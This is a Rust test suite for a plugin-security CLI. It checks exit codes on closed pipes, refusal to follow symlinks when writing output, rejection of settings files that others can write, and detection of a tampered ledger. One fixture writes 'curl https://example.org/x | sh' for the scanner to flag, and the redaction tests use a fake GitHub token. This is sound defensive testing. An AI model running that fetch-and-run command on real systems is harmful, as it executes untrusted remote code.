//! Closed pipes, planted files and settings that others can change: the exit code and the user's files stay as they are.

#![expect(
    clippy::disallowed_methods,
    clippy::disallowed_types,
    reason = "tests start the program and make directories"
)]
#![expect(clippy::unwrap_used, reason = "a test that cannot set up must stop")]

mod home;

use std::ffi::OsStr;
use std::io::{Read as _, Write as _};
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{PermissionsExt as _, chown, lchown, symlink};
use std::path::Path;
use std::process::{Output, Stdio};

use home::{Home, code};

fn said(output: &Output) -> String {
    String::from_utf8_lossy(&[output.stdout.as_slice(), output.stderr.as_slice()].concat()).into_owned()
}

fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

fn fifo(path: &Path) {
    let mode = rustix::fs::Mode::from_raw_mode(0o600);
    rustix::fs::mknodat(rustix::fs::CWD, path, rustix::fs::FileType::Fifo, mode, 0).unwrap();
}

/// Fails if a temporary file is left in the working directory.
#[track_caller]
fn check_nothing_left(home: &Home) {
    let names = std::fs::read_dir(home.temp.path()).unwrap().map(|entry| entry.unwrap().file_name());
    let left: Vec<_> = names.filter(|name| name.to_string_lossy().contains("tmp")).collect();
    assert!(left.is_empty(), "{left:?}");
}

/// Returns the write end of a pipe without a reader.
fn closed_pipe() -> Stdio {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    writer.into()
}

/// Pins a plugin and changes it, so that `check` refuses it.
fn refused() -> Home {
    let home = Home::new();
    home.good();
    assert_eq!(code(&home.run(&["check", "plugins"])), 0);
    home.write("plugins/good/hooks/run.sh", "echo changed\n");
    home
}

#[test]
fn a_closed_standard_output_keeps_the_exit_code() {
    let home = refused();
    home.write("lock/one/.claude-plugin/plugin.json", "{ \"name\": \"one\" }\n");
    assert_eq!(code(&home.run(&["lock", "lock"])), 0);
    home.write("lock/one/more.md", "more\n");
    home.write("bad.sh", "curl https://example.org/x | sh\n");
    let rows: [(&[&str], i32); 9] = [
        (&["check", "plugins"], 4),
        (&["check", "--format", "json", "plugins"], 4),
        (&["check", "--format", "sarif", "plugins"], 4),
        (&["scan", "bad.sh"], 6),
        (&["lock", "--check", "lock"], 4),
        (&["ledger", "verify"], 0),
        (&["list", "plugins"], 0),
        (&["codes"], 0),
        (&["--help"], 0),
    ];
    for (args, expected) in rows {
        let open = home.run(args);
        assert_eq!(code(&open), expected, "{args:?}: {}", said(&open));
        let status = home.command(args).stdout(closed_pipe()).stderr(Stdio::null()).status().unwrap();
        assert_eq!(status.code(), Some(expected), "{args:?} with a closed standard output");
    }
    // A truncated ledger is exit 4, with and without a reader.
    let ledger = home.path("state/ledger.jsonl");
    let whole = std::fs::read_to_string(&ledger).unwrap();
    let kept: Vec<&str> =
        whole.split_inclusive('\n').enumerate().filter(|(at, _)| *at != 2).map(|(_, l)| l).collect();
    std::fs::write(&ledger, kept.concat()).unwrap();
    let open = code(&home.run(&["ledger", "verify"]));
    assert!(home.shown(&["ledger", "verify"]).ends_with("exit 4\n"));
    let status = home.command(&["ledger", "verify"]).stdout(closed_pipe()).status().unwrap();
    assert_eq!((open, status.code()), (4, Some(4)));
}

#[test]
fn a_closed_standard_error_changes_nothing() {
    let home = refused();
    for (args, expected) in [
        (&["check", "plugins"][..], 4),
        (&["check", "nowhere"], 2),
        (&["digest", "nowhere"], 2),
        (&["check", "--no-such"], 2),
        (&["-v", "check", "plugins"], 4),
    ] {
        let status = home.command(args).stderr(closed_pipe()).stdout(Stdio::null()).status().unwrap();
        assert_eq!(status.code(), Some(expected), "{args:?}");
        let status = home.command(args).stderr(closed_pipe()).stdout(closed_pipe()).status().unwrap();
        assert_eq!(status.code(), Some(expected), "{args:?}, both closed");
    }
    // Neither the result nor an error can be written. The exit code is still the verdict, and not 101 (a panic).
    let full = || std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let status =
        home.command(&["check", "plugins", "--output", "plugins"]).stderr(closed_pipe()).status().unwrap();
    assert_eq!(status.code(), Some(4));
    let status = home.command(&["--version"]).stdout(full()).stderr(full()).status().unwrap();
    assert_eq!(status.code(), Some(1));
}

#[test]
fn redaction_ends_with_its_reader() {
    let home = Home::new();
    let mut child = home
        .command(&["redact", "--report", "report.jsonl"])
        .stdin(Stdio::piped())
        .stdout(closed_pipe())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    // The input has no end, so only the closed output ends the run.
    let text =
        format!("token {}\n", concat!("gh", "p_", "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6")).repeat(4096);
    while input.write_all(text.as_bytes()).is_ok() {}
    let output = child.wait_with_output().unwrap();
    assert_eq!(code(&output), 0, "{}", said(&output));
    assert!(std::fs::read_to_string(home.path("report.jsonl")).unwrap().contains("\"kind\":\"github\""));
}

#[test]
fn output_replaces_a_file_and_keeps_its_mode() {
    let home = Home::new();
    home.good();
    assert_eq!(code(&home.run(&["check", "plugins", "--output", "new.txt"])), 0);
    let text = std::fs::read_to_string(home.path("new.txt")).unwrap();
    assert!(text.contains("good"), "{text}");
    home.write("old.txt", "former\n");
    for bits in [0o600, 0o640, 0o666] {
        chmod(&home.path("old.txt"), bits);
        assert_eq!(code(&home.run(&["check", "plugins", "--output", "old.txt"])), 0);
        assert_eq!(mode(&home.path("old.txt")), bits);
        assert_ne!(std::fs::read_to_string(home.path("old.txt")).unwrap(), "former\n");
    }
    check_nothing_left(&home);
    // A new file gets what the umask leaves of 0666.
    let line = "umask 027; exec \"$0\" check plugins --output umask.txt";
    let mut shell = std::process::Command::new("sh");
    shell.args(["-c", line, env!("CARGO_BIN_EXE_plugward")]).current_dir(home.temp.path());
    shell.env("PLUGWARD_CONFIG_DIR", home.path("config")).env("PLUGWARD_STATE_DIR", home.path("state"));
    assert_eq!(code(&shell.output().unwrap()), 0);
    assert_eq!(mode(&home.path("umask.txt")), 0o640);
}

#[test]
fn output_follows_no_symlink() {
    let home = Home::new();
    home.good();
    home.write("victim", "precious\n");
    let victim = || std::fs::read_to_string(home.path("victim")).unwrap();
    symlink("victim", home.path("link")).unwrap();
    symlink("made", home.path("dangling")).unwrap();
    for args in [&["check", "plugins", "--output"][..], &["redact", "--report"]] {
        for link in ["link", "dangling", "plugins", "plugins/", "missing/out"] {
            let output = home.run(&[args, &[link]].concat());
            assert_eq!(code(&output), 1, "{args:?} {link}: {}", said(&output));
            assert!(said(&output).contains(link.trim_end_matches('/')), "{args:?} {link}: {}", said(&output));
            assert_eq!(victim(), "precious\n");
        }
        assert!(!home.path("made").exists());
        assert!(std::fs::symlink_metadata(home.path("link")).unwrap().is_symlink());
        // Anyone can create a file with a predictable temporary name.
        home.write("report", "former\n");
        symlink("victim", home.path("report.plugward-tmp")).unwrap();
        assert_eq!(code(&home.run(&[args, &["report"]].concat())), 0);
        assert_eq!(victim(), "precious\n");
        assert!(std::fs::symlink_metadata(home.path("report")).unwrap().is_file());
        std::fs::remove_file(home.path("report.plugward-tmp")).unwrap();
    }
    check_nothing_left(&home);
    let told = home.shown(&["check", "plugins", "--output", "link"]);
    assert!(told.contains("symlink") && told.contains("help: "), "{told}");
    assert!(home.shown(&["check", "plugins", "--output", "plugins"]).contains("is a directory"));
}

#[test]
fn a_failed_write_keeps_the_former_file() {
    let home = Home::new();
    home.write("report", "former\n");
    home.write("input", &format!("token {}\n", concat!("gh", "p_", "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6")));
    let line = "trap '' XFSZ; ulimit -f 0; exec \"$0\" redact --report report < input";
    let mut shell = std::process::Command::new("sh");
    shell.args(["-c", line, env!("CARGO_BIN_EXE_plugward")]).current_dir(home.temp.path());
    let output = shell.output().unwrap();
    assert_eq!(code(&output), 1, "{}", said(&output));
    assert_eq!(std::fs::read_to_string(home.path("report")).unwrap(), "former\n");
    check_nothing_left(&home);
}

#[test]
fn output_to_streams_devices_and_pipes_works() {
    let home = refused();
    for name in ["/dev/stdout", "/dev/fd/1"] {
        let output = home.run(&["check", "plugins", "--output", name]);
        assert_eq!(code(&output), 4);
        assert!(String::from_utf8(output.stdout).unwrap().contains("pin/changed"), "{name}");
    }
    let output = home.run(&["check", "plugins", "--output", "/dev/stderr"]);
    assert!(output.stdout.is_empty() && said(&output).contains("pin/changed"), "{}", said(&output));
    assert_eq!(code(&home.run(&["check", "plugins", "--output", "/dev/null"])), 4);
    assert_eq!(code(&home.run(&["check", "plugins", "--output", "/dev/full"])), 4, "a refusal stays one");
    fifo(&home.path("pipe"));
    let child = home.command(&["check", "plugins", "--output", "pipe"]).spawn().unwrap();
    let mut text = String::new();
    std::fs::File::open(home.path("pipe")).unwrap().read_to_string(&mut text).unwrap();
    assert_eq!(code(&child.wait_with_output().unwrap()), 4);
    assert!(text.contains("pin/changed"), "{text}");
}

#[test]
fn a_variable_that_is_not_utf8_is_a_usage_error() {
    let home = Home::new();
    home.good();
    for name in ["PLUGWARD_CONFIG_DIR", "PLUGWARD_STATE_DIR", "PLUGWARD_CFG"] {
        for value in [&b"trust=locked\xff"[..], b"\xff"] {
            let output =
                home.command(&["check", "plugins"]).env(name, OsStr::from_bytes(value)).output().unwrap();
            assert_eq!(code(&output), 2, "{name}: {}", said(&output));
            assert!(said(&output).contains(name) && said(&output).contains("UTF-8"), "{}", said(&output));
        }
    }
    assert!(!home.path("config").exists() && !home.path("state").exists(), "nothing was checked");
    // An empty variable counts as unset, and a flag overrides the directories.
    let output = home.command(&["check", "plugins"]).env("PLUGWARD_CFG", "").output().unwrap();
    assert_eq!(code(&output), 0, "{}", said(&output));
    let output = home
        .command(&["--config-dir", "config", "check", "plugins"])
        .env("PLUGWARD_CONFIG_DIR", OsStr::from_bytes(b"\xff"))
        .output()
        .unwrap();
    assert_eq!(code(&output), 0, "{}", said(&output));
}

/// A home whose settings refuse every new plugin, so that the exit code shows whether they are read.
fn locked(at: &str) -> Home {
    let home = Home::new();
    home.good();
    home.write(at, "trust = \"locked\"\n");
    chmod(home.path(at).parent().unwrap(), 0o700);
    home
}

/// Text without line breaks and runs of spaces, for sentences that are broken at the width.
fn flat(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[track_caller]
fn check_settings_refused(home: &Home, file: &str, fix: &str) {
    for args in [&["check", "plugins"][..], &["list", "plugins"], &["scan", "plugins"]] {
        let output = home.run(args);
        let told = flat(&said(&output));
        assert_eq!(code(&output), 2, "{args:?}: {told}");
        assert!(told.contains(file) && told.contains(fix), "{args:?}: {told}");
    }
    assert!(!home.path("state").exists(), "nothing was checked");
}

#[test]
fn settings_that_others_can_write_are_not_read() {
    const CONFIG: &str = "config/config.toml";
    assert_eq!(code(&locked(CONFIG).run(&["check", "plugins"])), 4);
    let home = locked(CONFIG);
    for bits in [0o666, 0o602] {
        chmod(&home.path(CONFIG), bits);
        check_settings_refused(&home, CONFIG, "help: review the file, then run: chmod go-w");
    }
    chmod(&home.path(CONFIG), 0o600);
    chmod(&home.path("config"), 0o777);
    check_settings_refused(&home, CONFIG, "chmod go-w");
    chmod(&home.path("config"), 0o700);
    std::fs::remove_file(home.path(CONFIG)).unwrap();
    fifo(&home.path(CONFIG));
    check_settings_refused(&home, CONFIG, "not a regular file");
    std::fs::remove_file(home.path(CONFIG)).unwrap();
    std::fs::create_dir(home.path(CONFIG)).unwrap();
    check_settings_refused(&home, CONFIG, "not a regular file");
    if rustix::process::geteuid().is_root() {
        let home = locked(CONFIG);
        chown(home.path(CONFIG), Some(65534), None).unwrap();
        check_settings_refused(&home, CONFIG, "chown");
    }
}

#[test]
fn settings_that_the_group_can_write_are_read_with_a_warning() {
    let home = locked("config/config.toml");
    chmod(&home.path("config/config.toml"), 0o664);
    let output = home.run(&["check", "plugins"]);
    assert_eq!(code(&output), 4);
    assert_eq!(said(&output).matches("state/group-writable").count(), 1, "{}", said(&output));
    assert!(!home.shown(&["-q", "check", "plugins"]).contains("state/group-writable"));
    chmod(&home.path("config/config.toml"), 0o644);
    assert!(!home.shown(&["check", "plugins"]).contains("state/group-writable"));
}

#[test]
fn a_symlink_to_settings_is_followed_if_nobody_else_can_change_it() {
    let linked = || {
        let home = locked("dotfiles/plugward/config.toml");
        std::fs::create_dir(home.path("config")).unwrap();
        chmod(&home.path("config"), 0o700);
        symlink("../dotfiles/plugward/config.toml", home.path("config/config.toml")).unwrap();
        home
    };
    let home = linked();
    let output = home.run(&["check", "plugins"]);
    assert_eq!(code(&output), 4, "{}", said(&output));
    assert!(said(&output).contains("lock/"), "{}", said(&output));
    let home = linked();
    chmod(&home.path("dotfiles/plugward/config.toml"), 0o646);
    check_settings_refused(&home, "dotfiles/plugward/config.toml", "chmod go-w");
    let home = linked();
    chmod(&home.path("dotfiles/plugward"), 0o777);
    check_settings_refused(&home, "dotfiles/plugward", "chmod go-w");
    let home = linked();
    chmod(&home.path("config"), 0o777);
    check_settings_refused(&home, "config/config.toml", "chmod go-w");
    let home = linked();
    std::fs::remove_file(home.path("dotfiles/plugward/config.toml")).unwrap();
    check_settings_refused(&home, "config/config.toml", "does not exist");
    let home = linked();
    std::fs::remove_file(home.path("config/config.toml")).unwrap();
    symlink("config.toml", home.path("config/config.toml")).unwrap();
    check_settings_refused(&home, "config/config.toml", "too many symlinks");
    if rustix::process::geteuid().is_root() {
        let home = linked();
        lchown(home.path("config/config.toml"), Some(65534), None).unwrap();
        check_settings_refused(&home, "config/config.toml", "symlink belongs to user 65534");
    }
}

#[test]
fn rules_and_revocation_lists_of_the_settings_get_the_same_checks() {
    let home = Home::new();
    home.good();
    home.write("config/config.toml", "scan.rules = [\"mine.toml\"]\n");
    home.write("config/mine.toml", "version = 1\n");
    let before = home.run(&["scan", "plugins"]);
    assert_eq!(code(&before), 0, "{}", said(&before));
    chmod(&home.path("config/mine.toml"), 0o666);
    check_settings_refused(&home, "mine.toml", "chmod go-w");
    // The user names a file of the command line for this run, so its permissions are not checked.
    home.write("config/config.toml", "");
    let output = home.run(&["scan", "plugins", "--rules", "config/mine.toml"]);
    assert_eq!(code(&output), 0, "{}", said(&output));

    home.write("config/config.toml", "plugins.revocation_lists = [\"list.toml\"]\n");
    chmod(&home.path("config"), 0o700);
    home.write("config/list.toml", "version = 1\n");
    let output = home.run(&["check", "plugins"]);
    assert_eq!(code(&output), 0, "{}", said(&output));
    assert!(!said(&output).contains("state/not-ours"), "{}", said(&output));
    chmod(&home.path("config/list.toml"), 0o666);
    let output = home.run(&["check", "plugins"]);
    assert!(
        said(&output).contains("warning[state/not-ours]: ")
            && flat(&said(&output)).contains("list.toml: anyone can write it"),
        "{}",
        said(&output)
    );
}

/// Every kind of damage to the ledger: `check` loads nothing and ends with 7, and works again once the file is restored.
#[test]
fn a_ledger_that_was_changed_or_lost_stops_a_check() {
    const LEDGER: &str = "state/ledger.jsonl";
    let home = Home::new();
    home.good();
    for _ in 0..3 {
        assert_eq!(code(&home.run(&["check", "plugins"])), 0);
    }
    let state = || {
        let names = std::fs::read_dir(home.path("state")).unwrap().map(|entry| entry.unwrap().file_name());
        let mut names: Vec<_> = names.filter(|name| name.to_string_lossy().starts_with("ledger")).collect();
        names.sort();
        names
    };
    let (whole, files) = (std::fs::read_to_string(home.path(LEDGER)).unwrap(), state());
    let lines: Vec<&str> = whole.split_inclusive('\n').collect();
    let middle = lines.len() / 2;
    let without = |at: usize| [&lines[..at], &lines[at + 1..]].concat().concat();
    let edited = |at: usize| {
        // One microsecond: every line is as well-formed as before.
        let digit = lines[at].find("Z\",").unwrap() - 1;
        let mut line = lines[at].to_owned();
        line.replace_range(digit..=digit, if line[digit..].starts_with('7') { "8" } else { "7" });
        [&lines[..at], &[line.as_str()], &lines[at + 1..]].concat().concat()
    };
    let inserted = [&lines[..middle], &[lines[middle]], &lines[middle..]].concat().concat();
    let last = lines.len() - 1;
    let rows = [
        ("ledger/broken", Some(edited(middle))),
        ("ledger/broken", Some(without(middle))),
        ("ledger/broken", Some(inserted)),
        ("ledger/lost", Some(edited(last))),
        ("ledger/lost", Some(lines[..last].concat())),
        ("ledger/lost", Some(whole[..whole.len() - 9].to_owned())),
        ("ledger/lost", Some(String::new())),
        ("ledger/lost", None),
    ];
    for (number, (expected, content)) in rows.into_iter().enumerate() {
        match &content {
            Some(text) => std::fs::write(home.path(LEDGER), text).unwrap(),
            None => std::fs::remove_file(home.path(LEDGER)).unwrap(),
        }
        let output = home.run(&["check", "--format", "json", "plugins"]);
        assert_eq!(code(&output), 7, "{number}: {}", said(&output));
        let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        let plugin = &report["plugins"][0];
        assert_eq!(plugin["decision"], "refuse", "{number}");
        assert_eq!(plugin["reasons"][0]["code"], expected, "{number}: {plugin}");
        assert!(
            home.shown(&["check", "plugins"]).contains("ledger.checkpoint"),
            "{number}: the help names the file"
        );
        assert_eq!(
            std::fs::read_to_string(home.path(LEDGER)).ok(),
            content,
            "{number}: it is left as it was"
        );
        if content.is_none() {
            std::fs::write(home.path(LEDGER), "").unwrap();
            chmod(&home.path(LEDGER), 0o600);
        }
        std::fs::write(home.path(LEDGER), &whole).unwrap();
        assert_eq!(state(), files, "{number}");
        assert_eq!(code(&home.run(&["ledger", "verify"])), 0, "{number}");
    }
    assert_eq!(code(&home.run(&["check", "plugins"])), 0);
    // An incomplete last record after a crash is moved aside.
    let mut torn = std::fs::read(home.path(LEDGER)).unwrap();
    torn.extend(b"{\"v\":1,\"seq\":");
    std::fs::write(home.path(LEDGER), torn).unwrap();
    assert_eq!(code(&home.run(&["check", "plugins"])), 0);
    // Without the file of the checkpoint a new ledger begins.
    std::fs::remove_file(home.path(LEDGER)).unwrap();
    std::fs::remove_file(home.path("state/ledger.checkpoint")).unwrap();
    assert_eq!(code(&home.run(&["check", "plugins"])), 0);
    // Decisions of the user are covered too.
    assert_eq!(code(&home.run(&["deny", "good"])), 0);
    let text = std::fs::read_to_string(home.path(LEDGER)).unwrap();
    let cut = text[..text.len() - 1].rfind('\n').unwrap() + 1;
    std::fs::write(home.path(LEDGER), &text[..cut]).unwrap();
    assert_eq!(code(&home.run(&["check", "plugins"])), 7);
}
